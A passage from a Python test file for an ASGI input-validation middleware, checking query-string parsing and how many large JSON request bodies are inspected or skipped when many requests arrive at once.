    assert next(iter(documents.pairs_of(b"&&a", "query", FREE))).path == ("query", "a")


def test_long_bodies_are_looked_at_one_at_a_time() -> None:
    """One thread looks at long bodies; where nobody waits for that, what is too far behind is counted as unseen."""
    report = ValidationReport()
    app = InputValidationMiddleware(_answering, report=report)
    scope = scope_of(**{"content-type": "application/json"})
    slow = json.dumps({"text": "a = f(b); // 'c'\n" * 6000}).encode()
    quick = json.dumps({"text": "x" * 40_000}).encode()

    async def ask(body: bytes) -> None:
        async def receive() -> Message:
            return part(body, more=False)

        async def send(_message: Message) -> None: ...

        await app(scope | {"headers": [*scope["headers"], (b"content-length", b"%d" % len(body))]}, receive, send)

    async def ask_all() -> None:
        async with asyncio.TaskGroup() as group:
            for body in (slow, *[quick] * 20):
                group.create_task(ask(body))

    asyncio.run(ask_all())
    seen = report.of(None)
    assert seen.inspected == 21
    assert seen.not_inspected == 5


async def _answering(_scope: Scope, receive: Receive, send: Send) -> None:
    await receive()
    await send({"type": "http.response.start", "status": 204, "headers": []})
    await send({"type": "http.response.body"})
